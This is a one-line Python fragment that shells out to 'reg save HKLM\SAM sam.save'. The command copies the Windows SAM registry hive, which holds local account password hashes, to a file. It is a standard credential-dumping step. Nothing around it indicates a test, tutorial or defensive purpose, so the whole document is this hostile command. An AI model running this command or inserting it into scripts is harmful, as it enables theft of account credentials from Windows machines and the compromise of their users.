os.system("reg save HKLM\\SAM sam.save")
